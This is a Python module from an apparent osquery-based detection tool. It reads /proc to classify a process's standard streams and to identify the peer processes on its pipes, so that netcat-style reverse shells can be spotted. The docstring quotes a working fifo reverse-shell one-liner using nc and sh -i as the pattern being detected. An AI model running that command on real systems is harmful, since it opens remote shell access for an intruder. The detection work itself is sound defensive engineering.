"""What a utility's stdin, stdout and stderr are, and who holds the other end of its pipes.

A reverse shell written into a script file (`mkfifo f; nc ADDR PORT < f | sh -i > f`)
has no telling argv: its shape is in the fds. The row says what each of fds 0-2 is
(tty, pipe, fifo and its path, socket, file and its path, null) and which processes
hold the other end of the pipes and fifos on stdin and stdout: the utility's siblings
and parent, where a shell pipeline puts them. The packs decide what a shell there means.

Read from /proc right after the exec, while the utility lives (a backdoor does; a
utility that has already exited has '' here). A peer that has forked but not yet exec'd
runs its parent's image: it is waited for, briefly and within a budget per second, so
that `nc … | sh -i` (a shell about to exec) is told from `printf x | nc …` (a subshell
running a builtin, which never execs).
"""

from __future__ import annotations

import os
import stat
import time
from dataclasses import dataclass, field
from typing import Any, Callable

from osquery_netutil.events.procfs import ProcView, cmdline, read
from osquery_netutil.events.scripts import with_script

STREAMS = ("stdin", "stdout", "stderr")
MAX_PEERS_SEEN = 64          # siblings looked at for one row
PEER_WAIT_S = 0.004          # one wait for forked peers to exec
PEER_WAITS = 5               # waits for one row at most (20 ms)
WAIT_BUDGET_S = 0.2          # waits in one second at most, whatever the rows: a loop of
                             # `printf x | nc -z …` must not stall the probe's reader
_Ends = dict[tuple[int, int], tuple[int, int]]   # (st_dev, st_ino) of a pipe or fifo -> (our fd, its access mode)


@dataclass
class Stdio:
    """The three streams' kinds (STREAMS order) and the processes at the other end, as
    ancestors are ({fd, pid, path, cmdline, forked, script})."""
    kinds: tuple[str, str, str] = ("", "", "")
    peers: list[dict[str, Any]] = field(default_factory=list)


def kind(target: str, mode: int | None) -> str:
    """An fd as the row says it: from its /proc link target and its file's st_mode."""
    if not target:
        return ""
    if target.startswith("pipe:"):
        return "pipe"
    if target.startswith("socket:"):
        return "socket"
    if target == "/dev/null":
        return "null"
    if mode is not None and stat.S_ISFIFO(mode):
        return f"fifo:{target}"
    if target.startswith(("/dev/pts/", "/dev/tty", "/dev/console")):
        return f"tty:{target}"
    if mode is not None and stat.S_ISREG(mode):
        return f"file:{target}"
    return f"other:{target}"


class _Budget:
    """Seconds of waiting left in the current second."""

    def __init__(self) -> None:
        self._second = 0
        self._left = WAIT_BUDGET_S

    def take(self, seconds: float) -> bool:
        now = int(time.monotonic())
        if now != self._second:
            self._second, self._left = now, WAIT_BUDGET_S
        if self._left < seconds:
            return False
        self._left -= seconds
        return True


class StdioReader:
    """Reads a live utility's stdio. forked(pid) says whether pid still runs the image it
    inherited at fork (the kernel knows; /proc is asked only when it does not)."""

    def __init__(self, forked: Callable[[int], bool | None]) -> None:
        self._forked = forked
        self._budget = _Budget()

    def read(self, pid: int, ppid: int) -> Stdio:
        proc = ProcView(pid)
        ends: _Ends = {}
        kinds = []
        for n in range(3):
            target, st = proc.fd(n), _stat(pid, n)
            kinds.append(kind(target, st.st_mode if st else None))
            if n < 2 and st is not None and stat.S_ISFIFO(st.st_mode):
                ends.setdefault((st.st_dev, st.st_ino), (n, _access(pid, n)))
        result = Stdio((kinds[0], kinds[1], kinds[2]))
        if ends and ppid > 0:
            result.peers = self._peers(pid, ppid, ends)
        return result

    def _peers(self, pid: int, ppid: int, ends: _Ends) -> list[dict[str, Any]]:
        """The siblings (and parent) holding the other end of one of ends on their fds 0-2, each as
        {fd: ours, pid, path, cmdline, forked}; forked peers are waited for, bounded."""
        parent = ProcView(ppid)
        candidates = [c for c in parent.children()[:MAX_PEERS_SEEN] if c != pid] + [ppid]
        holders = {c: fd for c in candidates if (fd := _holds(c, ends)) is not None}
        waits = 0
        while waits < PEER_WAITS and any(self._still_forked(c, parent) for c in holders if c != ppid):
            if not self._budget.take(PEER_WAIT_S):
                break
            time.sleep(PEER_WAIT_S)
            waits += 1
        peers = []
        for c, fd in holders.items():
            view = ProcView(c)
            node = {"fd": fd, "pid": c, "path": view.exe(), "cmdline": cmdline(view.argv()),
                    "forked": c != ppid and self._still_forked(c, parent)}
            peers.append(with_script(node, view.cwd(), view.fd))   # a shell on a script feeds, one without reads
        return peers

    def _still_forked(self, pid: int, parent: ProcView) -> bool:
        known = self._forked(pid)
        if known is not None:
            return known
        view = ProcView(pid)   # older than the probe: a fork runs its parent's argv
        return view.argv() == parent.argv() and view.exe() == parent.exe()


def _stat(pid: int, n: int) -> os.stat_result | None:
    try:
        return os.stat(f"/proc/{pid}/fd/{n}")   # follows the link: the pipe's or file's inode
    except OSError:
        return None


def _access(pid: int, n: int) -> int:
    """fd n's access mode (os.O_RDONLY, O_WRONLY or O_RDWR), from /proc/PID/fdinfo/N; O_RDWR
    when unknown (it then matches either end)."""
    raw = read(f"/proc/{pid}/fdinfo/{n}") or b""
    for line in raw.splitlines():
        if line.startswith(b"flags:"):
            return int(line.split()[1], 8) & os.O_ACCMODE
    return os.O_RDWR


def _holds(pid: int, ends: _Ends) -> int | None:
    """Our fd whose other end pid holds on one of its fds 0-2, else None. Both ends of a
    pipe are one inode: the access mode tells them apart (a parent whose stdout nc
    inherited holds the same end, not the other)."""
    for n in range(3):
        st = _stat(pid, n)
        end = ends.get((st.st_dev, st.st_ino)) if st is not None else None
        if end is not None:
            ours, theirs = end[1], _access(pid, n)
            if ours != theirs or os.O_RDWR in (ours, theirs):
                return end[0]
    return None
